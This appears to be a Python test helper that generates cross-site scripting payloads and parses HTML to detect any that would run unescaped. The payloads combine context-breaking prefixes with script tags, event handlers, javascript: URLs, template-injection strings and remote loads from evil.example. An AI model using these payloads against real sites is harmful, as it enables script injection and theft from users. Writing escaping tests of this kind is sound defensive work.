"""Texts that would run, were they not escaped; and the reader that finds what runs on a page."""

import re
from html.parser import HTMLParser
from itertools import product

MARK = "attack"
_SCRIPTS = (
    f"<script>{MARK}()</script>",
    f"<ScRiPt src=//evil.example/{MARK}.js></sCrIpT>",
    f"<img src=x onerror={MARK}()>",
    f"<svg onload={MARK}()>",
    f"<svg><script>{MARK}()</script></svg>",
    f"<iframe srcdoc='<script>{MARK}()</script>'></iframe>",
    f"<a href=javascript:{MARK}()>x</a>",
    f"<form action=javascript:{MARK}()><button>x</button></form>",
    f"<input autofocus onfocus={MARK}()>",
    f"<details open ontoggle={MARK}()>",
    f"<style>@import '//evil.example/{MARK}'</style>",
    f"<base href=//evil.example/{MARK}/>",
    f"<meta http-equiv=refresh content=0;//evil.example/{MARK}>",
    f"<object data=//evil.example/{MARK}></object>",
    f"<math><mtext><img src=x onerror={MARK}()></mtext></math>",
    f"<template><img src=x onerror={MARK}()></template>",
    f" onmouseover={MARK}() x=",
    f"{{{{ {MARK} }}}}{{% debug %}}<img src=x onerror={MARK}()>",
    f"{{__class__.__init__.__globals__}}<img src=x onerror={MARK}()>",
    f"%(name)s %s {{0.__class__}}<img src=x onerror={MARK}()>",
)
_BREAKS = ("", '"', "'", '">', "'>", "-->", "</script>", "</title>", "</textarea>", "</template>", "]]>")  # fmt: skip
LEADING = frozenset({"src", "href", "data", "action", "formaction", "srcdoc"})
PAYLOADS = tuple(f"{mark}{script}" for mark, script in product(_BREAKS, _SCRIPTS))


class _Finder(HTMLParser):
    """Notes each element and attribute that carries the mark where it would do something."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._data = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        kept = dict(attrs)
        self._data = tag == "script" and "json" in (kept.get("type") or "")
        for name, value in attrs:
            runs = name.startswith("on") or (value or "").strip().lower().startswith("javascript:")
            leads = name in LEADING and (value or "").startswith(("//", "http:", "https:"))
            if (runs and name != "value") or (leads and "evil" in str(value)):
                self.found.append(f"<{tag} {name}={value}>")
        if tag in {"base", "object", "embed", "iframe", "math"} and MARK in str(attrs):
            self.found.append(f"<{tag}>")

    def handle_data(self, data: str) -> None:
        if self.lasttag in {"script", "style"} and MARK in data and not self._data:
            self.found.append(f"<{self.lasttag}> {data[:60]}")

    def handle_endtag(self, tag: str) -> None:
        self.lasttag = ""


# A section that the browser unpacks later: what is in it is read as if it stood in the page.
PACKED = re.compile(r'<script type="text/plain" data-packed="\w+">')


def what_runs(page: str) -> list[str]:
    """What on this page would run a payload: nothing, where all is escaped."""
    finder = _Finder()
    finder.feed(PACKED.sub("", page))
    finder.close()
    return finder.found
